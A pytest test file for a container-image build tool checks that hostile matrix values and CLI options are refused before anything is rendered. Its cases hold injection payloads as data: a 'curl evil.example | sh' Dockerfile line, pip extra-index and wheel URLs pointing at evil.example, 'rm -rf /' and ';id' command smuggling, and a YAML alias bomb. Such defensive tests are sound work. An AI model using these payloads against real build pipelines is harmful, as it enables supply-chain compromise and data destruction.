"""A hostile or careless matrix cannot reach outside its box: every value that lands in a template or a
command is checked against its real grammar first, YAML cannot expand without bound, and immutable tags
can never look like aliases. Each attack is refused with one line, exit 2, before anything is written."""

from __future__ import annotations

import os
import time

import pytest
from conftest import LINE_027, lmi

from buildkit import render

BASE = "schema: 1\nfamilies: {g5: {}}\nlines:" + LINE_027


def _refused(path, *args: str) -> str:
    out = path.parent / "images"
    result = lmi("--matrix", str(path), "render", *args)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert not out.exists() or not any(out.iterdir())  # nothing written
    return result.stderr


@pytest.mark.parametrize("old,new,message", [
    ('transformers: "4.39.0"', 'transformers: "4.39.0\\"\\nRUN curl evil.example | sh\\n#"',
     "transformers '4.39.0\"\\nRUN curl evil.example | sh\\n#' holds a control character"),
    ('diffusers: "0.26.3"', 'diffusers: "0.26.3 --extra-index-url=http://evil.example"',
     "diffusers '0.26.3 --extra-index-url=http://evil.example' holds characters no version has"),
    ('accelerate: "0.27.2"', 'accelerate: "latest"', "accelerate 'latest' is not a PEP 440 version"),
    ('accelerate: "0.27.2"', 'accelerate: "0.27.2;id"', "holds characters no version has"),
])
def test_a_library_version_cannot_inject_lines(write_matrix, old, new, message) -> None:
    path = write_matrix(BASE.replace(old, new))
    err = _refused(path)
    assert message in err and f"{path}:" in err


@pytest.mark.parametrize("entry,message", [
    ('"numpy==1.26.4\\n--extra-index-url http://evil.example"', "holds a control character"),
    ('"--extra-index-url=http://evil.example"', "is not a PEP 508 requirement"),
    ('"numpy @ http://evil.example/numpy.whl"', "has a URL or an environment marker"),
    ("'numpy==1.26.4; python_version > \"3\"'", "has a URL or an environment marker"),
    ('"numpy>=1.26"', "is not pinned"),
    ('"numpy==1.*"', "is not pinned"),
])
def test_pip_entries_are_pinned_pep508_requirements(write_matrix, entry, message) -> None:
    path = write_matrix(BASE + f"    pip: [{entry}]\n")
    assert message in _refused(path)


def test_names_match_whole_not_up_to_a_newline(write_matrix) -> None:
    path = write_matrix(BASE.replace("  djl0.27:", '  "djl0.27\\n":'))
    assert "line names are lowercase letters" in _refused(path)
    path = write_matrix(BASE + '    tag_suffix: "a\\nb"\n')
    assert "tag_suffix 'a\\nb' holds a control character" in _refused(path)
    path = write_matrix(BASE + '    tag_suffix: "a;b"\n')
    assert "tag_suffix 'a;b' must be lowercase" in _refused(path)


def test_template_values_are_quoted_for_their_context() -> None:
    assert render.label_value('a"b$c\\d') == '"a\\"b\\$c\\\\d"'
    with pytest.raises(Exception, match="control character"):
        render.label_value("a\nLABEL x=y")
    assert render.shell_word("numpy==1.26.4") == "numpy==1.26.4"
    assert render.shell_word("torch==2.1.2+cpu; rm -rf /") == "'torch==2.1.2+cpu; rm -rf /'"


BOMB = """\
a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g, *g]
"""


@pytest.mark.parametrize("where", ["schema", "key", "check"])
def test_an_alias_bomb_is_refused_in_under_two_seconds(write_matrix, where) -> None:
    body = {
        "schema": BOMB + "schema: *h\n" + BASE.split("\n", 1)[1],
        "key": BOMB + BASE + "    overrides: {? *h : {torch: \"2.1.2\"}}\n",
        "check": BOMB + BASE + "    checks: [{name: *h, command: \"true\"}]\n",
    }[where]
    path = write_matrix(body)
    start = time.monotonic()
    err = _refused(path)
    assert time.monotonic() - start < 2 + 1.5  # the CLI's own start-up included
    assert "expands to more than 100,000 values" in err or "a mapping key must be a plain value" in err


def test_a_few_aliases_are_fine(write_matrix) -> None:
    text = (BASE.replace('transformers: "4.39.0"', 'transformers: &tf "4.39.0"')
            + "    checks: [{name: tf, command: *tf}]\n")
    path = write_matrix(text)
    assert lmi("--matrix", str(path), "validate").returncode == 0


def test_special_files_and_huge_files_are_refused(tmp_path) -> None:
    link = tmp_path / "matrix.yaml"
    link.symlink_to("/dev/zero")
    start = time.monotonic()
    result = lmi("--matrix", str(link), "validate")
    assert result.returncode == 2 and "not a regular file" in result.stderr and time.monotonic() - start < 5
    big = tmp_path / "big.yaml"
    big.write_text("# " + "x" * (2 << 20) + "\n")
    result = lmi("--matrix", str(big), "validate")
    assert result.returncode == 2 and "larger than 1024 KiB" in result.stderr
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    result = lmi("--matrix", str(fifo), "validate")
    assert result.returncode == 2 and "not a regular file" in result.stderr


def test_a_tuple_tag_can_never_read_as_a_revision(write_matrix) -> None:
    """The bare tuple tag moves to the newest revision; a tag_suffix that made it look like an immutable
    revision tag (<tuple>-rN) would let a registry's immutability rule pin it."""
    path = write_matrix(BASE + "    tag_suffix: r2\n")
    result = lmi("--matrix", str(path), "validate")
    assert result.returncode == 2 and "matches an immutable-tag pattern" in result.stderr, result.stderr


# --- values that reach argv, a label or a file: control characters and grammar ---------------------------


def _one_line(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, stderr
    return lines[0]


@pytest.mark.parametrize("top,families,message", [
    ('base_mirror: "x\\nRUN id"\n', "g5: {}", "base_mirror 'x\\nRUN id' holds a control character"),
    ('base_mirror: "Mirror.example/Hub"\n', "g5: {}", "base_mirror 'Mirror.example/Hub' is not a registry prefix"),
    ('base_mirror: "m.example/hub --network=host"\n', "g5: {}", "is not a registry prefix"),
    ('build_args: {X: "a\\nRUN id"}\n', "g5: {}", "build_args: X value 'a\\nRUN id' holds a control character"),
    ('build_args: {"X\\n": "a"}\n', "g5: {}", "build_args: 'X\\n' is not a build argument name"),
    ('build_args: {"A=B": "a"}\n', "g5: {}", "build_args: 'A=B' is not a build argument name"),
    ("", 'p5: {driver: "535.104.05\\n"}', "driver '535.104.05\\n' holds a control character"),
    ("", 'p5: {driver: "535.104.05; id"}', "driver '535.104.05; id' is not a driver version"),
    ("", 'g6e: {inference_ami: "al2-ami-sagemaker-inference-gpu-3-1\\n"}',
     "inference_ami 'al2-ami-sagemaker-inference-gpu-3-1\\n' holds a control character"),
    ('repository: "lmi-inference\\n"\n', "g5: {}", "repository 'lmi-inference\\n' holds a control character"),
    ('repository: "lmi inference"\n', "g5: {}", "is not a valid image repository name"),
])
def test_matrix_values_for_argv_and_labels_are_refused_in_one_line(write_matrix, top, families, message) -> None:
    path = write_matrix(f"schema: 1\n{top}families: {{{families}}}\nlines:" + LINE_027)
    line = _one_line(_refused(path))
    assert line.startswith(f"{path}:") and message in line


@pytest.mark.parametrize("args,message", [
    (["bake", "--build-arg", "X=a\nRUN id"], "--build-arg: X value 'a\\nRUN id' holds a control character"),
    (["bake", "--build-arg", "X\nY=a"], "--build-arg: 'X\\nY' is not a build argument name"),
    (["plan", "--base-mirror", "m.example\nRUN id"], "--base-mirror 'm.example\\nRUN id': holds a control character"),
    (["ci-matrix", "--registry", "reg.example/team\n"], "--registry 'reg.example/team\\n': holds a control"),
    (["bake", "--registry", "reg.example/Team"], "--registry 'reg.example/Team': is not a registry prefix"),
    (["test", "--registry", "reg.example/team,x=y"], "--registry 'reg.example/team,x=y': is not a registry prefix"),
    (["plan", "--pip-index-url", "https://x.example/simple\n"], "--pip-index-url (or $LMI_PIP_INDEX_URL) holds"),
    (["check", "--instance", "g5", "--cuda", "12.4", "--torch", "2.4.0", "--deepspeed", "0.15.1", "--djl", "0.30.0",
      "--python", "3.10", "--os", "ubuntu22.04", "--driver", "535.54.03\n"], "--driver '535.54.03\\n': not a driver"),
])
def test_options_for_argv_and_labels_are_refused_in_one_line(args, message) -> None:
    result = lmi(*args)
    assert result.returncode == 2, result.stdout + result.stderr
    assert message in _one_line(result.stderr)

